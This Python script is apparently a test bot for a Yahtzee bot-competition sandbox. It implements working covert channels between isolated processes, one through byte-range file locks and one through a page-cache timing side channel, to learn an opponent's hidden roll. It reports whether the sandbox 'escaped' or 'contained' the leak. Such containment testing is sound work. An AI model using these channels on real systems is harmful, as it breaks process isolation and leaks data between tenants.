#!/usr/bin/env python3
"""The `relay` attack of tests/src/bin/attack_bot.rs, as an uploaded bot would
play it (python3 runtime, standard library only), for Spartan Yahtzee.

Words are byte-range read locks on a file every sandbox shows, at offset
`key << 16 | value`; a thread copies every word another process holds onto a
descriptor of its own, so a word lives while any process of the bot lives on
the machine. At the first request of each game it reads the word under its own
secret first roll (where a process that played the other rotation of the group
spelled the roll the other army holds now); after the reveal it writes
`ATTACK relay: escaped|contained ...` to stderr and spells its own word.

With `--cache` it plays the `cache` attack instead: the same words in the page
cache of a large file every sandbox shows (17 pages a key: a marker and 16
bits, evicted with `posix_fadvise(DONTNEED)` and read in; heard with
`preadv2(RWF_NOWAIT)`, which brings nothing in), so a word outlives every
process, and it writes `ATTACK cache: ...`.

With `--honest` it only plays (the first legal move, as the attack does): the
opponent the attack is measured against must play the same in both rotations,
since the roll it checks is the other army's dice as revealed after its rerolls.
"""

import fcntl
import json
import os
import shlex
import stat
import struct
import sys
import threading
import time

F_OFD_GETLK, F_OFD_SETLK = 36, 37
KEYS = 1 << 12
FILE = next(p for p in ("/usr/bin/env", "/bin/sh") if os.path.exists(p))


def lock_record(kind, start, length):
    return struct.pack("hhqqi", kind, os.SEEK_SET, start, length, 0)


def other_lock(fd, start, end):
    """The offset of a read lock another descriptor holds in [start, end)."""
    got = fcntl.fcntl(fd, F_OFD_GETLK, lock_record(fcntl.F_WRLCK, start, end - start))
    kind, _, at, _, _ = struct.unpack("hhqqi", got)
    return None if kind == fcntl.F_UNLCK else max(at, start)


def hold(fd, at):
    try:
        fcntl.fcntl(fd, F_OFD_SETLK, lock_record(fcntl.F_RDLCK, at, 1))
    except OSError:
        pass


def mark(roll):
    h = 0x811C9DC5
    for b in roll.encode():
        h = ((h ^ b) * 0x01000193) & 0xFFFFFFFF
    return ((h ^ (h >> 16)) & 0xFFFF) | 1


def roll_key(dice):
    return "".join(str(d) for d in sorted(dice))


def relay():
    copies, look = os.open(FILE, os.O_RDONLY), os.open(FILE, os.O_RDONLY)
    while True:
        for key in range(KEYS):
            at = key << 16
            while (found := other_lock(look, at, (key + 1) << 16)) is not None:
                hold(copies, found)
                at = found + 1
        time.sleep(0.001)


class PageCache:
    """Words in the page cache of the largest file in the host's library and
    program folders (by size, then name), from its middle."""

    PAGE, KEYS, PAGES = 4096, 64, 17

    def __init__(self):
        span = self.KEYS * self.PAGES * self.PAGE
        best = None
        for folder in ("/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib", "/usr/bin"):
            try:
                names = os.listdir(folder)
            except OSError:
                continue
            for name in names:
                path = os.path.join(folder, name)
                try:
                    st = os.lstat(path)
                except OSError:
                    continue
                if stat.S_ISREG(st.st_mode) and st.st_size >= 2 * span and (best is None or (st.st_size, path) > best):
                    best = (st.st_size, path)
        size, path = best
        self.fd = os.open(path, os.O_RDONLY)
        os.posix_fadvise(self.fd, 0, 0, os.POSIX_FADV_RANDOM)
        self.base = ((size - span) // 2) & ~(self.PAGE - 1)

    def page(self, key, bit):
        return self.base + (key * self.PAGES + bit) * self.PAGE

    def cached(self, at):
        try:
            return os.preadv(self.fd, [bytearray(1)], at, os.RWF_NOWAIT) == 1
        except BlockingIOError:
            return False

    def spell(self, key, value):
        os.posix_fadvise(self.fd, self.page(key, 0), self.PAGES * self.PAGE, os.POSIX_FADV_DONTNEED)
        for bit in range(16):
            if value >> bit & 1:
                os.pread(self.fd, 1, self.page(key, bit))
        os.pread(self.fd, 1, self.page(key, 16))

    def hear(self, key):
        if not self.cached(self.page(key, 16)):
            return None
        return sum(1 << bit for bit in range(16) if self.cached(self.page(key, bit)))


def main():
    honest = "--honest" in sys.argv[1:]
    cache = PageCache() if "--cache" in sys.argv[1:] else None
    name = "cache" if cache else "relay"
    if not honest and not cache:
        threading.Thread(target=relay, daemon=True).start()
    spoken = os.open(FILE, os.O_RDONLY)
    first_roll, heard = None, None
    for line in sys.stdin:
        head, _, obs = line.rstrip("\n").partition(" obs=")
        words = shlex.split(head)
        command = words[0] if words else ""
        fields = dict(w.split("=", 1) for w in words[1:] if "=" in w)
        if command == "astragal":
            print(f"id name={name}\nastragalok version=1", flush=True)
        elif command == "isready":
            print("readyok", flush=True)
        elif command == "quit":
            return
        elif command == "go":
            o = json.loads(obs)
            if honest:
                pass
            elif o.get("phase") == "reroll1" and o.get("turn") == 1:
                first_roll = roll_key(o["your_dice"])
                if cache:
                    heard = cache.hear(mark(first_roll) % cache.KEYS)
                else:
                    key = mark(first_roll) % KEYS
                    probe = os.open(FILE, os.O_RDONLY)
                    found = other_lock(probe, key << 16, (key + 1) << 16)
                    os.close(probe)
                    heard = None if found is None else found & 0xFFFF
            elif o.get("phase") == "reroll1" and o.get("turn") == 2 and first_roll:
                theirs = roll_key(o["last_reveal"]["dice"][1 - o["seat"]])
                right = heard == mark(theirs)
                verdict = "escaped" if right else "contained"
                print(f"ATTACK {name}: {verdict} heard {heard}, the other army rolled {theirs}",
                      file=sys.stderr, flush=True)
                if cache:
                    cache.spell(mark(theirs) % cache.KEYS, mark(first_roll))
                else:
                    hold(spoken, (mark(theirs) % KEYS) << 16 | mark(first_roll))
                first_roll = None
            time.sleep(0.003)
            move = fields["legal"].split(",")[0]
            print(f"move id={fields['id']} move={move}", flush=True)


main()
